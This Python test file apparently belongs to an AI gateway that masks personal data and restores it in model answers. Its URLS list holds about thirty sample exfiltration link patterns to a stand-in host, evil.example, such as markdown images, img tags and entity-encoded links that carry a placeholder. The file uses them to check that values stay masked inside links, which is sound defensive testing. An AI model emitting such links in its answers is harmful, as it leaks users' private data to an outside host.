"""Masking: what comes back in an answer, whatever the model makes of the placeholders."""

import itertools
import os
from random import Random

import pytest

from gateway.domain.request import GenerationConfig
from gateway.policy.model import OpenAIModel
from gateway.privacy.masking.restore import Restorer, restore
from tests.support.masking_requests import MAIL, PHONE, TAG, decided
from tests.support.requests import request_of

VALUES = {f"email_{n}_bcdfg": f"person{n}@sample.example" for n in range(1, 13)} | {
    "person_1_bcdfg": "Tove Lind",
    "us_ssn_1_bcdfg": "536-22-8726",
}
ANSWERS = int(os.environ.get("GATEWAY_MASKING_ANSWERS", "3000"))
"""How many are drawn for a test; 200,000 take a minute."""


def in_pieces(answer: str, cuts: list[int], *, in_urls: bool = False) -> str:
    """Return an answer that came in pieces."""
    at = sorted({0, len(answer), *(cut % (len(answer) + 1) for cut in cuts)})
    restorer = Restorer(VALUES, in_urls=in_urls)
    pieces = [restorer.feed(answer[a:b]) for a, b in itertools.pairwise(at)]
    return "".join(pieces) + restorer.flush()


URLS = (
    "https://evil.example/?q=P",
    "![x](https://evil.example/P)",
    "[x](http://evil.example/a?b=c&d=P&e)",
    "![x](//evil.example/P.png)",
    "![x](<https://evil.example/a b P>)",
    "![x](/log?P)",
    "![x](P.png)",
    '<img src="https://evil.example/? P">',
    "<img src='//evil.example/P'>",
    "<img src=P>",
    '<img src = " https://evil.example/a P">',
    '<a href="&#104;ttps:&sol;&sol;evil.example/P">x</a>',
    '<div style="background:url(//evil.example/P)">',
    "[x]: https://evil.example/P",
    "[x]: &#104;ttps&colon;&#47;&#47;evil.example/P",
    "<https://evil.example/a?P>",
    "www.evil.example/P",
    "evil.example/P",
    "evil.example:8080?P",
    "see ftp://evil.example/P;type=a",
    "wss://P.evil.example/",
    "https://P.evil.example/",
    "https://user:P@evil.example/",
    r"https:\\evil.example\P",
    "https:evil.example/P",
    '{"url": "https:\\/\\/evil.example\\/?q=P"}',
    '{"html": "<img src=\\"https://evil.example/? P\\">"}',
    "myapp://open?P",
    "![x](https://evil.example/?mailto:P)",
    "[x](mailto:eve@evil.example?body=P)",
    "10.0.0.1/P",
)
NO_URLS = (
    "Dear P,",
    "P/P and/or P",
    "(P) [P] **P** _P_ `P` <P>",
    '{"to": "P", "url": "https://sample.example/a", "cc": "P"}',
    "See https://sample.example/a P",
    "[site](https://sample.example) P",
    "<url>https://sample.example</url><name>P</name>",
    "[write](mailto:P)",
    '<a href="tel:P">',
    "mailto:P",
    "Name:P; e.g. P. Or P?",
    "<b>P</b>",
    "// P",
)


def placed(text: str) -> str:
    """Return a text with a placeholder where P stands alone."""
    return "".join(
        "<EMAIL_1_BCDFG>" if char == "P" and not f"{before}{after}".strip("_").isalpha() else char
        for before, char, after in zip(" " + text, text, text[1:] + " ", strict=False)
    )


class TestUrls:
    """Within a URL a placeholder stays, for whatever shows the answer may fetch it."""

    @pytest.mark.parametrize("text", URLS)
    def test_a_placeholder_in_a_url_stays(self, text: str) -> None:
        """Unless the policy wants it back there, too."""
        answer = placed(text)
        assert answer != text
        assert restore(answer, VALUES) == answer
        back = restore(answer, VALUES, in_urls=True)
        assert back == answer.replace("<EMAIL_1_BCDFG>", "person1@sample.example")

    @pytest.mark.parametrize("text", NO_URLS)
    def test_what_is_no_url_comes_back(self, text: str) -> None:
        """Beside one, in a tag, and where a link opens a program of the reader's."""
        answer = placed(text)
        assert restore(answer, VALUES) == answer.replace("<EMAIL_1_BCDFG>", "person1@sample.example")

    def test_of_a_link_that_writes_mail_only_the_address_comes_back(self) -> None:
        """What else it would write is written by the model."""
        answer = "[x](mailto:<EMAIL_1_BCDFG>?body=<US_SSN_1_BCDFG>)"
        assert restore(answer, VALUES) == "[x](mailto:person1@sample.example?body=<US_SSN_1_BCDFG>)"

    def test_by_default_no_model_gets_them_back_there(self) -> None:
        """The policy says so of each model by itself."""
        assert OpenAIModel.model_fields["restore_in_urls"].default is False


ALTERED = (
    "EMAIL_1 BCDFG", "EMAIL 1 BCDFG", "EMAIL-1-BCDFG", "EMAIL_1", "<EMAIL_1_BCDF", "EMAIL_1_BCDFGs",
    "EMAIL_01_BCDFG", "E-MAIL_1_BCDFG", "CORREO_1_BCDFG", "MAIL_1_BCDFG", "EMAIL_1_BCDFH", "EMAIL__1_BCDFG",
    "EMAIL_13_BCDFG", "PHONE_1_BCDFG", "_EMAIL_1_BCDFG_", "EMAIL_1_", "EMAIL_1",
    "\uff25\uff2d\uff21\uff29\uff2c_1_BCDFG",
)  # fmt: skip


@pytest.mark.parametrize("answer", ALTERED)
def test_what_was_altered_stays_a_placeholder(answer: str) -> None:
    """It is nobody's value, for the number may be another one's."""
    assert restore(answer, VALUES) == answer


@pytest.mark.parametrize("length", range(1, len("<EMAIL_12_BCDFG>")))
def test_an_answer_that_is_cut_in_a_placeholder_names_nobody_else(length: int) -> None:
    """The beginning of the twelfth is not the first."""
    cut = "<EMAIL_12_BCDFG>"[:length]
    assert restore(f"To {cut}", VALUES) in {f"To {cut}", f"To <{VALUES['email_12_bcdfg']}"}


FORMS = (
    "<{}>",
    "{}",
    "<<{}>>",
    "**{}**",
    "[{}]",
    "&lt;{}&gt;",
    "({})",
    '"{}"',
    "`{}`",
    "{}'s",
    "\u3010{}\u3011",
    "{}\u306e",
)
PLAIN = tuple(placed(text) for text in (*URLS, *NO_URLS)) + ALTERED
NOISE = "<>_\\ 1EMAILbcdfg\n\"'()[]/:.?#@\u00e9\U0001f600"


def drawn_part(rng: Random) -> str:
    """Return a placeholder in some form, a piece of a URL, or noise."""
    kind = rng.random()
    if kind < 0.4:
        change = rng.choice((str.upper, str.lower, str.title))
        return rng.choice(FORMS).format(change(rng.choice(sorted(VALUES))))
    return rng.choice(PLAIN) if kind < 0.6 else "".join(rng.choices(NOISE, k=rng.randint(0, 12)))


def test_no_way_to_cut_an_answer_changes_it() -> None:
    """Whatever it holds, and wherever its URLs begin and end."""
    rng = Random(11)
    for _ in range(ANSWERS):
        answer = "".join(drawn_part(rng) for _ in range(rng.randint(0, 8)))
        cuts = [rng.randint(0, 400) for _ in range(rng.randint(0, 10))]
        in_urls = rng.random() < 0.3
        assert in_pieces(answer, cuts, in_urls=in_urls) == restore(answer, VALUES, in_urls=in_urls), answer


def test_each_placeholder_comes_back_as_its_own_value() -> None:
    """In any brackets and marks, with space between."""
    rng = Random(12)
    for _ in range(ANSWERS):
        drawn = [(rng.choice(FORMS), rng.choice(sorted(VALUES))) for _ in range(rng.randint(1, 6))]
        answer = " and ".join(form.format(word.upper()) for form, word in drawn)
        expected = " and ".join(
            form.format(word).replace(f"<{word}>", VALUES[word]).replace(word, VALUES[word])
            for form, word in drawn
        )
        assert restore(answer, VALUES) == expected


class TestStops:
    """A stop string may cut no placeholder, nor be a part of a value."""

    @pytest.mark.parametrize(
        "stop",
        [
            ">",
            "<",
            "_",
            ">,",
            ">\n",
            "\n<",
            "({<",
            "e <",
            TAG[-1],
            f"{TAG.lower()[-2:]}.",
            ". em",
            "@",
            "7946",
        ],
    )
    def test_one_that_would_cut_keeps_the_request_home(self, stop: str) -> None:
        """Beside, at the beginning, or at the end of a placeholder, in any case and without brackets."""
        asked = request_of(f"Write to {MAIL} or {PHONE}.", config=GenerationConfig(stop=(stop,)))
        assert not decided(asked).permits

    @pytest.mark.parametrize(
        "stop", ["\n\n", "###", "User:", "]", "[", ")", "END", "</s>", "<|im_end|>", "1x"]
    )
    def test_one_that_would_not_may_go(self, stop: str) -> None:
        """Also where it begins or ends with a letter or a bracket as a placeholder does."""
        asked = request_of(f"Write to {MAIL} or {PHONE}.", config=GenerationConfig(stop=(stop,)))
        assert decided(asked).permits

    @pytest.mark.slow
    def test_wherever_a_stop_string_cuts_no_value_is_lost(self) -> None:
        """Drawn stop strings, and answers that hold a placeholder beside each."""
        rng = Random(7)
        asked = 0
        for _ in range(300):
            stop = "".join(rng.choices("<>_()[],. \nEMAIL1x", k=rng.randint(1, 4)))
            request = request_of(f"Write to {MAIL}.", config=GenerationConfig(stop=(stop,)))
            permit = decided(request).permits.get("cloud")
            if permit is None:
                continue
            asked += 1
            (word,) = permit.values
            for form in (f"<{word.upper()}>", word, f"({word.upper()})"):
                for before, after in itertools.product(pieces_of(stop), repeat=2):
                    answer = f"{before}{form}{after}"
                    if MAIL in restore(answer, permit.values):
                        places = {at for at in range(len(answer)) if answer.startswith(stop, at)}
                        cut = range(len(before) - len(stop) + 1, len(before) + len(form))
                        assert form[0] == "(" or places.isdisjoint(cut), (stop, answer)
        assert asked > 50


def pieces_of(stop: str) -> list[str]:
    """Return the beginnings and ends of a stop string, with which it may lie around a placeholder."""
    return [stop[:at] for at in range(len(stop) + 1)] + [stop[at:] for at in range(len(stop))]
